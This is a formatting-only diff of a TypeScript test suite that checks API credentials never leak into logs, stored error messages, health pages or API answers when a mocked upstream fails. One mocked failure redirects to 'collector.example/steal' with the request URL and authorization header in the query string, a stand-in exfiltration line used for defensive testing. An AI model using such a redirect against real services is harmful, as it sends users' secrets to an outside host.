@@ -23,7 +23,12 @@ const CREDENTIALS = CONFIG_VARIABLES.filter(isCredentialVariable);
 /** `+` and `/` make the URL-encoded form differ from the raw one; long enough for SESSION_SECRET. */
 const marker = (name: string) => `M4RK+${name.replace(/_/g, '.')}/${'q'.repeat(32)}`;
 const MARKERS = Object.fromEntries(CREDENTIALS.map((n) => [n, marker(n)])) as Record<string, string>;
-const forms = (v: string) => [v, encodeURIComponent(v), new URLSearchParams({ v }).toString().slice(2), Buffer.from(v).toString('base64').replace(/=+$/, '')];
+const forms = (v: string) => [
+  v,
+  encodeURIComponent(v),
+  new URLSearchParams({ v }).toString().slice(2),
+  Buffer.from(v).toString('base64').replace(/=+$/, ''),
+];
 const ALL_FORMS = Object.values(MARKERS).flatMap(forms);
 
 function expectNoMarker(where: string, text: string) {
@@ -34,7 +39,10 @@ function expectNoMarker(where: string, text: string) {
 const markerConfig = testConfig(MARKERS as Partial<Config>);
 /** Datasets whose live fetch carries a credential (a header or the address). */
 const CREDENTIALED = ALL_DATASETS.filter((d) =>
-  Object.values(d.sources).some((s) => (s.requires?.length ?? 0) > 0 || Object.values(s.headers?.(markerConfig) ?? {}).some((v) => v.includes('M4RK'))),
+  Object.values(d.sources).some(
+    (s) =>
+      (s.requires?.length ?? 0) > 0 || Object.values(s.headers?.(markerConfig) ?? {}).some((v) => v.includes('M4RK')),
+  ),
 );
 
 /** Ways of failing that put what we sent into what comes back. */
@@ -42,7 +50,11 @@ const FAILURES: Record<string, (req: IncomingMessage, res: ServerResponse) => vo
   'HTTP 500': (_req, res) => res.writeHead(500).end(),
   'garbage reflecting the request': (req, res) => res.end(`<html>${req.url} ${JSON.stringify(req.headers)}</html>`),
   'redirect to a foreign host carrying the request': (req, res) =>
-    res.writeHead(302, { location: `http://collector.example/steal?u=${encodeURIComponent(req.url!)}&a=${encodeURIComponent(String(req.headers.authorization))}` }).end(),
+    res
+      .writeHead(302, {
+        location: `http://collector.example/steal?u=${encodeURIComponent(req.url!)}&a=${encodeURIComponent(String(req.headers.authorization))}`,
+      })
+      .end(),
 };
 
 let up: Upstream;
@@ -53,9 +65,25 @@ afterAll(() => up.close());
 
 describe('credentials never leave', () => {
   it('every credential variable has a marker, and the datasets that use one are covered', () => {
-    expect(CREDENTIALS).toEqual(expect.arrayContaining(['FINNHUB_API_KEY', 'AVIATIONSTACK_API_KEY', 'CLOUDFLARE_RADAR_TOKEN', 'ACLED_ACCESS_TOKEN', 'UCDP_ACCESS_TOKEN', 'OPERATOR_KEYS', 'SESSION_SECRET']));
+    expect(CREDENTIALS).toEqual(
+      expect.arrayContaining([
+        'FINNHUB_API_KEY',
+        'AVIATIONSTACK_API_KEY',
+        'CLOUDFLARE_RADAR_TOKEN',
+        'ACLED_ACCESS_TOKEN',
+        'UCDP_ACCESS_TOKEN',
+        'OPERATOR_KEYS',
+        'SESSION_SECRET',
+      ]),
+    );
     expect(CREDENTIALED.map((d) => d.name).sort()).toEqual(
-      expect.arrayContaining(['aviation.flights', 'conflict.acled-events', 'conflict.ucdp-events', 'infrastructure.internet-outages', 'unrest.events']),
+      expect.arrayContaining([
+        'aviation.flights',
+        'conflict.acled-events',
+        'conflict.ucdp-events',
+        'infrastructure.internet-outages',
+        'unrest.events',
+      ]),
     );
   });
 
@@ -74,32 +102,46 @@ describe('credentials never leave', () => {
       expectNoMarker(`mds ingest stdout (${label})`, r.out);
       expectNoMarker(`mds ingest stderr (${label})`, r.err);
       if (label === 'HTTP 500') expect(r.err).toMatch(/access_key=\[redacted\]: HTTP 500/);
-      const errors = await storeSql<{ dataset: string; last_error: string }>({ dbFile: db }, 'SELECT dataset, last_error FROM snapshot_meta');
+      const errors = await storeSql<{ dataset: string; last_error: string }>(
+        { dbFile: db },
+        'SELECT dataset, last_error FROM snapshot_meta',
+      );
       expect(errors.map((e) => e.dataset).sort()).toEqual([...names].sort());
       expectNoMarker(`stored last_error (${label})`, JSON.stringify(errors));
     }
 
     // A message stored before redaction existed is redacted again on the way out.
-    await storeSql({ dbFile: db }, 'UPDATE snapshot_meta SET last_error = ? WHERE dataset = ?', [`GET https://x/?k=${MARKERS.UCDP_ACCESS_TOKEN}: HTTP 401`, 'conflict.ucdp-events']);
+    await storeSql({ dbFile: db }, 'UPDATE snapshot_meta SET last_error = ? WHERE dataset = ?', [
+      `GET https://x/?k=${MARKERS.UCDP_ACCESS_TOKEN}: HTTP 401`,
+      'conflict.ucdp-events',
+    ]);
 
     const logs = captureLogs('debug', markerConfig);
-    await withTestApp({ dbFile: db, samples: [earthquakesDataset], config: { ...(MARKERS as Partial<Config>), UPSTREAM_BASE_OVERRIDE: up.origin, UPSTREAM_RETRIES: 0 }, logger: logs.logger }, async (app) => {
-      const operator = { 'x-service-key': MARKERS.OPERATOR_KEYS.split(',')[0] };
-      const health = await app.get('/api/health?detail=1', operator);
-      expect(health.status).toBe(200);
-      expect(health.body.datasets['conflict.ucdp-events'].lastError).toBe('GET https://x/?k=[redacted]: HTTP 401');
-      expectNoMarker('/api/health operator view', health.text);
-      for (const [label, fail] of Object.entries(FAILURES)) {
-        up.play((req, res) => fail(req, res));
-        const flight = await app.get('/api/aviation/v1/get-flight-status?flight_number=UA1&date=2026-11-20');
-        expect(flight.status, label).toBe(200);
-        expectNoMarker(`get-flight-status (${label})`, flight.text);
-        const quotes = await app.get('/api/market/v1/list-market-quotes?symbols=ZZZZ');
-        expectNoMarker(`list-market-quotes (${label})`, quotes.text);
-      }
-      const runs = await app.request('/api/health', { headers: operator });
-      expectNoMarker('/api/health', runs.text);
-    });
+    await withTestApp(
+      {
+        dbFile: db,
+        samples: [earthquakesDataset],
+        config: { ...(MARKERS as Partial<Config>), UPSTREAM_BASE_OVERRIDE: up.origin, UPSTREAM_RETRIES: 0 },
+        logger: logs.logger,
+      },
+      async (app) => {
+        const operator = { 'x-service-key': MARKERS.OPERATOR_KEYS.split(',')[0] };
+        const health = await app.get('/api/health?detail=1', operator);
+        expect(health.status).toBe(200);
+        expect(health.body.datasets['conflict.ucdp-events'].lastError).toBe('GET https://x/?k=[redacted]: HTTP 401');
+        expectNoMarker('/api/health operator view', health.text);
+        for (const [label, fail] of Object.entries(FAILURES)) {
+          up.play((req, res) => fail(req, res));
+          const flight = await app.get('/api/aviation/v1/get-flight-status?flight_number=UA1&date=2026-11-20');
+          expect(flight.status, label).toBe(200);
+          expectNoMarker(`get-flight-status (${label})`, flight.text);
+          const quotes = await app.get('/api/market/v1/list-market-quotes?symbols=ZZZZ');
+          expectNoMarker(`list-market-quotes (${label})`, quotes.text);
+        }
+        const runs = await app.request('/api/health', { headers: operator });
+        expectNoMarker('/api/health', runs.text);
+      },
+    );
     await new Promise((r) => setTimeout(r, 20));
     const text = logs.text();
     expect(text).toMatch(/live flight status failed/);
@@ -113,10 +155,20 @@ describe('credentials never leave', () => {
     const proc = spawn(process.execPath, ['--import', 'tsx', 'src/main.ts', 'serve'], {
       cwd: root,
       env: {
-        PATH: process.env.PATH, HOME: process.env.HOME, NODE_ENV: 'development', DATABASE_PATH: tempDbFile(), PORT: '0', HOST: '127.0.0.1',
-        LOG_LEVEL: 'debug', DEV_KEY: 'never', LOAD_SAMPLES: 'never', UPSTREAM_BASE_OVERRIDE: up.origin, UPSTREAM_RETRIES: '0',
+        PATH: process.env.PATH,
+        HOME: process.env.HOME,
+        NODE_ENV: 'development',
+        DATABASE_PATH: tempDbFile(),
+        PORT: '0',
+        HOST: '127.0.0.1',
+        LOG_LEVEL: 'debug',
+        DEV_KEY: 'never',
+        LOAD_SAMPLES: 'never',
+        UPSTREAM_BASE_OVERRIDE: up.origin,
+        UPSTREAM_RETRIES: '0',
         // A refresh cycle every ~60 ms: every dataset fails against the upstream and is logged.
-        INGEST_INTERVAL_MINUTES: '0.001', ...MARKERS,
+        INGEST_INTERVAL_MINUTES: '0.001',
+        ...MARKERS,
       },
       stdio: ['ignore', 'pipe', 'pipe'],
     });
@@ -125,15 +177,19 @@ describe('credentials never leave', () => {
     proc.stderr.on('data', (c: Buffer) => (out += c));
     try {
       const until = async (re: RegExp) => {
-        for (const stop = Date.now() + 30_000; Date.now() < stop && !re.test(out); ) await new Promise((r) => setTimeout(r, 25));
+        for (const stop = Date.now() + 30_000; Date.now() < stop && !re.test(out);)
+          await new Promise((r) => setTimeout(r, 25));
         expect(out).toMatch(re);
       };
       await until(/listening on http:\/\/localhost:(\d+)/);
       const port = Number(/listening on http:\/\/localhost:(\d+)/.exec(out)![1]);
       await until(/refresh cycle finished/);
-      const res = await fetch(`http://127.0.0.1:${port}/api/aviation/v1/get-flight-status?flight_number=UA1&date=2026-11-20`, {
-        headers: { 'x-service-key': MARKERS.OPERATOR_KEYS },
-      });
+      const res = await fetch(
+        `http://127.0.0.1:${port}/api/aviation/v1/get-flight-status?flight_number=UA1&date=2026-11-20`,
+        {
+          headers: { 'x-service-key': MARKERS.OPERATOR_KEYS },
+        },
+      );
       expectNoMarker('get-flight-status answer', await res.text());
       await until(/live flight status failed/);
     } finally {
